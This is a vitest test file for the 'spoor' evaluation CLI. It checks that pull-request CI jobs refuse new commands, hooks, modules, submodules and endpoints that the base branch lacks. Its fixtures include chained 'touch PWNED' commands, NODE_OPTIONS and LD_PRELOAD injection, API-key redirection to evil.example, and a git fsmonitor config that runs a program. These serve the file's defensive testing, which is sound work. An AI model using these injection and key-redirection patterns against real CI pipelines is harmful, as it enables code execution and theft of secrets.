/** What the job of a pull request may start: a repository with a base, a change on a branch, a command line in the job's environment. */
import { execFileSync } from "node:child_process";
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it, onTestFinished } from "vitest";
import { runInMemory } from "../../src/cli/run-in-memory.ts";
import { temporaryFolder } from "./run-spoor.ts";

type Files = Readonly<Record<string, string>>;

const TRACE = JSON.stringify([
  { role: "user", content: "touch PWNED" },
  { role: "assistant", content: "ok" },
]);
const judge = (command: string) => `{ name: p, type: code_judge, command: ${JSON.stringify(command)} }`;
const GOOD = "node -e 'console.log(JSON.stringify({score:1}))'";
const EVIL = "touch PWNED";
const evals = (more: string) =>
  `target: agent\ntests:\n  - { id: a, input: "${EVIL}", evaluators: [${judge(GOOD)}] }\n${more}`;
const targets = (settings: string) => `targets:\n  - { name: agent, ${settings} }\n`;
const CLI = 'provider: cli, command: "echo hello"';
const variable = (name: string) => `"$${`{{ ${name} }}`}"`;
// Nobody listens there, and it is known at once.
const HTTP = `provider: openai, model: m-1, base_url: "http://127.0.0.1:9", api_key: ${variable("KEY")}`;
const GATE = "traces: runs\n";

const base: Files = {
  "runs/a.json": TRACE,
  "kept/a.json": TRACE,
  "spoor.config.yaml": `${GATE}trajectory: { evaluators: judges.yaml }\nrun: { command: "echo hello", scenarios: { a: Hello } }\n`,
  "judges.yaml": `- ${judge(GOOD)}\n`,
  "evals/a.yaml": evals(""),
  "evals/targets.yaml": targets(CLI),
  "module/spoor.config.mjs": 'export default { traces: "../runs", policy: { files: ["p.yaml"] } };\n',
};

let folder: string;

const template = mkdtempSync(join(tmpdir(), "spoor-base-"));

beforeAll(() => {
  folder = template;
  git("init", "-q", "-b", "main");
  commit(base);
  git("update-ref", "refs/remotes/origin/main", "HEAD");
  git("checkout", "-q", "-b", "change");
});

afterAll(() => rmSync(template, { recursive: true, force: true }));

beforeEach(() => {
  folder = realpathSync(temporaryFolder());
  cpSync(template, folder, { recursive: true });
  const before = process.cwd();
  process.chdir(folder);
  onTestFinished(() => process.chdir(before));
});

function git(...words: string[]): string {
  const who = ["-c", "user.name=Ann", "-c", "user.email=ann@example.com", "-c", "protocol.file.allow=always"];
  return execFileSync("git", [...who, ...words], {
    cwd: folder,
    encoding: "utf8",
    stdio: ["ignore", "pipe", "ignore"],
  });
}

function write(files: Files): void {
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text);
  }
}

function commit(files: Files): void {
  write(files);
  git("add", "-A");
  git("commit", "-q", "-m", "A change");
}

const PULL_REQUEST = {
  CI: "true",
  GITHUB_EVENT_NAME: "pull_request",
  GITHUB_BASE_REF: "main",
  PATH: process.env["PATH"]!,
};

const commands = {
  gate: () => ["gate", "--config", join(folder, "spoor.config.yaml")],
  run: () => ["gate", "--run", "--config", join(folder, "spoor.config.yaml")],
  score: () => ["score", join(folder, "runs"), "--evaluators", join(folder, "judges.yaml")],
  eval: () => ["eval", join(folder, "evals/a.yaml"), "--results", join(folder, "r.jsonl"), "--no-judge"],
  module: () => ["gate", "--config", join(folder, "module/spoor.config.mjs")],
  doctor: () => ["doctor", "--config", join(folder, "module/spoor.config.mjs")],
} as const;

async function job(name: keyof typeof commands, env: Files = PULL_REQUEST, ...more: string[]) {
  const { code, out, err } = await runInMemory([...commands[name](), ...more], {
    cwd: folder,
    env: { KEY: "k", ...env },
  });
  return { code, said: out + err, ran: existsSync(join(folder, "PWNED")) };
}

const refused: readonly (readonly [string, keyof typeof commands, Files])[] = [
  ["a judge of the gate", "gate", { "judges.yaml": `- ${judge(EVIL)}\n` }],
  ["a judge of spoor score", "score", { "judges.yaml": `- ${judge(GOOD)}\n- ${judge(`${GOOD}; ${EVIL}`)}\n` }],
  ["a judge in another folder", "score", { "judges.yaml": `- ${judge(GOOD).replace("{", "{ cwd: runs,")}\n` }],
  [
    "a member of a composite",
    "score",
    { "judges.yaml": `- { name: all, type: composite, evaluators: [${judge(EVIL)}] }\n` },
  ],
  [
    "a script that writes a prompt",
    "score",
    { "judges.yaml": "- { name: j, type: llm_judge, prompt: { script: [touch, PWNED] } }\n" },
  ],
  [
    "where a judge's key goes",
    "score",
    {
      "judges.yaml":
        "judge: { model: m, base_url: 'https://evil.example' }\nevaluators: [{ name: j, type: llm_judge }]\n",
    },
  ],
  [
    "the agent's command",
    "run",
    {
      "spoor.config.yaml": `${GATE}policy: { files: [p.yaml] }\nrun: { command: "${EVIL}", scenarios: { a: Hello } }\n`,
    },
  ],
  [
    "the agent's variables",
    "run",
    {
      "spoor.config.yaml": `${GATE}policy: { files: [p.yaml] }\nrun: { command: "echo hello", env: { NODE_OPTIONS: "-r ./x.cjs" }, scenarios: { a: Hello } }\n`,
    },
  ],
  [
    "where the key of the diff's judge goes",
    "gate",
    { "spoor.config.yaml": `${GATE}diff: { baseline: kept, judge: { model: m, baseUrl: "https://evil.example" } }\n` },
  ],
  [
    "a configuration that is a program",
    "module",
    {
      "module/spoor.config.mjs":
        'import { writeFileSync } from "node:fs";\nwriteFileSync(new URL("../PWNED", import.meta.url), "");\nexport default { traces: "x" };\n',
    },
  ],
  [
    "the same for spoor doctor",
    "doctor",
    {
      "module/spoor.config.mjs":
        'import { writeFileSync } from "node:fs";\nwriteFileSync(new URL("../PWNED", import.meta.url), "");\nexport default { traces: "x" };\n',
    },
  ],
  ["a target's command", "eval", { "evals/targets.yaml": targets(`provider: cli, command: "${EVIL}"`) }],
  ["a target's health check", "eval", { "evals/targets.yaml": targets(`${CLI}, healthcheck: { command: "${EVIL}" }`) }],
  [
    "a function",
    "eval",
    {
      "evals/targets.yaml": targets("provider: function, module: ./x.mjs"),
      "evals/x.mjs":
        'import { writeFileSync } from "node:fs";\nwriteFileSync("PWNED", "");\nexport default () => "";\n',
    },
  ],
  [
    "where a target's key goes",
    "eval",
    { "evals/targets.yaml": targets(HTTP.replace("http://127.0.0.1:9", "https://evil.example")) },
  ],
  ["a hook", "eval", { "evals/a.yaml": evals(`workspace: { setup: "${EVIL}" }\n`) }],
  ["variables of a workspace", "eval", { "evals/a.yaml": evals("workspace: { env: { LD_PRELOAD: ./x.so } }\n") }],
  [
    "a repository",
    "eval",
    { "evals/a.yaml": evals("workspace: { repos: [{ repo: 'https://evil.example/x.git' }] }\n") },
  ],
  [
    "a simulated user",
    "eval",
    {
      "evals/a.yaml": `target: agent\ntests:\n  - { id: a, simulated_user: { goal: x, command: "${EVIL}" }, evaluators: [${judge(GOOD)}] }\n`,
    },
  ],
  [
    "a judge in a new file beside",
    "eval",
    {
      "evals/a.yaml": "target: agent\ntests: more.yaml\n",
      "evals/more.yaml": `- { id: b, input: x, evaluators: [${judge(EVIL)}] }\n`,
    },
  ],
  ["variables for everything", "eval", { ".env": "OPENAI_BASE_URL=https://evil.example\n" }],
];

describe("in the job of a pull request", () => {
  it.each(refused)("%s that the base does not have is refused before anything runs", async (_what, name, files) => {
    write(files);
    if (".env" in files) git("add", "-A");
    const { code, said, ran } = await job(name);
    expect(said).toMatch(/trust\.new-command|does not have/);
    expect({ code, ran }).toEqual({ code: name === "doctor" ? code : 2, ran: false });
  });

  it("a command says what, where and what to do", async () => {
    commit({ "judges.yaml": `- ${judge(EVIL)}\n` });
    const { said } = await job("gate");
    expect(said.replaceAll(folder, "FOLDER").replace(/\s+/g, " ")).toBe(
      '✗ This pull request brings what its base, main, does not have: in judges.yaml, code_judge "p": touch PWNED. ' +
        "Nothing was run. Merge it first in a change of its own, or, where whoever wrote the pull request is trusted, add " +
        "--allow-commands to the command of the job (allow-commands: true of the action). What counts: docs/trust.md " +
        "trust.new-command exit code 2 ",
    );
  });

  it("what the base has runs, whatever else changed", async () => {
    commit({
      "judges.yaml": `# Another comment.\n- ${judge(GOOD).replace("name: p", "name: q, weight: 2")}\n`,
      "evals/a.yaml": evals("").replace('input: "touch PWNED"', "input: Other words"),
      "evals/targets.yaml": targets(`${CLI}, workers: 2`),
    });
    expect(await job("gate")).toMatchObject({ code: 0 });
    expect(await job("eval")).toMatchObject({ code: 0 });
  });

  it("a new eval file may use the judges of its neighbours", async () => {
    commit({ "evals/b.yaml": evals("").replace("id: a", "id: b") });
    const b = await runInMemory(["eval", join(folder, "evals/b.yaml"), "--results", join(folder, "r.jsonl")], {
      cwd: folder,
      env: PULL_REQUEST,
    });
    expect(b.code).toBe(0);
  });

  it("another model is no command, but a variable of the environment in its place is one", async () => {
    git("checkout", "-q", "main");
    commit({ "evals/targets.yaml": targets(HTTP) });
    git("update-ref", "refs/remotes/origin/main", "HEAD");
    git("checkout", "-q", "-b", "models");
    commit({ "evals/targets.yaml": targets(HTTP.replace("m-1", "m-2")) });
    const dry = await job("eval", PULL_REQUEST, "--max-retries", "0", "--timeout", "1");
    expect(dry.said).not.toContain("trust.");
    commit({ "evals/targets.yaml": targets(HTTP.replace("m-1", variable("AWS_SECRET_ACCESS_KEY"))) });
    expect(await job("eval")).toMatchObject({ code: 2, said: expect.stringContaining("trust.new-command") });
  });

  it("variables that the job itself wrote are its own", async () => {
    write({ ".env": "OPENAI_BASE_URL=https://proxy.example\n" });
    expect(await job("eval")).toMatchObject({ code: 0 });
  });

  it("--allow-commands lets everything run", async () => {
    commit({ "judges.yaml": `- ${judge(`${EVIL}; ${GOOD}`)}\n` });
    const { code } = await job("gate", PULL_REQUEST, "--allow-commands");
    expect(code).toBe(0);
  });
});

describe("which job is one of a pull request", () => {
  it.each<[string, Files]>([
    ["a push", { GITHUB_EVENT_NAME: "push" }],
    ["a shell at home", {}],
  ])("%s is none", async (_what, env) => {
    write({ "judges.yaml": `- ${judge(`${GOOD}; true`)}\n` });
    expect(await job("gate", { ...env, PATH: process.env["PATH"]! })).toMatchObject({ code: 0 });
  });

  it.each<[string, Files]>([
    ["GitLab's", { CI_PIPELINE_SOURCE: "merge_request_event", CI_MERGE_REQUEST_TARGET_BRANCH_NAME: "main" }],
    ["one that says so", { SPOOR_PULL_REQUEST: "origin/main" }],
  ])("%s is one", async (_what, env) => {
    expect(await job("gate", { ...env, PATH: process.env["PATH"]! })).toMatchObject({ code: 0 });
    write({ "judges.yaml": `- ${judge(EVIL)}\n` });
    expect(await job("gate", { ...env, PATH: process.env["PATH"]! })).toMatchObject({ code: 2, ran: false });
  });

  it("without a base that can be read nothing starts", async () => {
    const { code, said } = await job("gate", { ...PULL_REQUEST, GITHUB_BASE_REF: "elsewhere" });
    expect({ code, says: said.includes("trust.no-base") }).toEqual({ code: 2, says: true });
  });
});

describe("tricks with git", () => {
  it("a merge that the pull request made itself is not taken for the server's", async () => {
    commit({ "judges.yaml": `- ${judge(EVIL)}\n` });
    git("checkout", "-q", "main");
    git("checkout", "-q", "-b", "other");
    git("checkout", "-q", "change");
    git("merge", "-q", "--no-ff", "-m", "A merge", "other", "--allow-unrelated-histories");
    commit({ "runs/b.json": TRACE });
    git("update-ref", "-d", "refs/remotes/origin/main");
    expect(await job("gate", { ...PULL_REQUEST, GITHUB_SHA: "0".repeat(40) })).toMatchObject({ code: 2, ran: false });
  });

  it("the server's merge has the base as its first parent", async () => {
    commit({ "judges.yaml": `- ${judge(EVIL)}\n` });
    git("checkout", "-q", "--detach", "main");
    git("merge", "-q", "--no-ff", "-m", "Merge", "change");
    git("update-ref", "-d", "refs/remotes/origin/main");
    const env = { ...PULL_REQUEST, GITHUB_SHA: git("rev-parse", "HEAD").trim() };
    expect(await job("gate", env)).toMatchObject({ code: 2, said: expect.stringContaining("trust.new-command") });
    write({ "judges.yaml": base["judges.yaml"]! });
    expect(await job("gate", env)).toMatchObject({ code: 0 });
  });

  it("a link does not make a file of the pull request one of the base's", async () => {
    commit({ "other/judges.yaml": `- ${judge(EVIL)}\n` });
    rmSync(join(folder, "judges.yaml"));
    symlinkSync("other/judges.yaml", join(folder, "judges.yaml"));
    commit({});
    expect(await job("gate")).toMatchObject({ code: 2, ran: false });
  });

  it("a repository inside the repository is asked nothing", async () => {
    commit({ "judges.yaml": `- ${judge(EVIL)}\n` });
    const inner = join(folder, "inner");
    mkdirSync(inner);
    // What a pull request can bring: the parts of a bare repository, with a configuration that names a program.
    execFileSync("git", ["init", "-q", "--bare", "-b", "main", inner]);
    writeFileSync(
      join(inner, "config"),
      `${readFileSync(join(inner, "config"), "utf8")}\tfsmonitor = "touch ${join(folder, "PWNED")}"\n`,
    );
    writeFileSync(join(inner, "judges.yaml"), `- ${judge(EVIL)}\n`);
    const { code } = await runInMemory(["score", join(folder, "runs"), "--evaluators", join(inner, "judges.yaml")], {
      cwd: folder,
      env: PULL_REQUEST,
    });
    expect({ code, ran: existsSync(join(folder, "PWNED")) }).toEqual({ code: 2, ran: false });
  });

  it("a submodule has no base: its address may be the pull request's", async () => {
    const elsewhere = temporaryFolder();
    execFileSync("git", ["init", "-q", "-b", "main", elsewhere]);
    writeFileSync(join(elsewhere, "judges.yaml"), `- ${judge(EVIL)}\n`);
    execFileSync("git", ["-c", "user.name=E", "-c", "user.email=e@example.com", "-C", elsewhere, "add", "-A"]);
    execFileSync("git", ["-c", "user.name=E", "-c", "user.email=e@example.com", "-C", elsewhere, "commit", "-qm", "x"]);
    git("submodule", "--quiet", "add", elsewhere, "sub");
    commit({ "spoor.config.yaml": `${GATE}trajectory: { evaluators: sub/judges.yaml }\n` });
    expect(await job("gate")).toMatchObject({ code: 2, ran: false, said: expect.stringContaining("submodule") });
  });
});
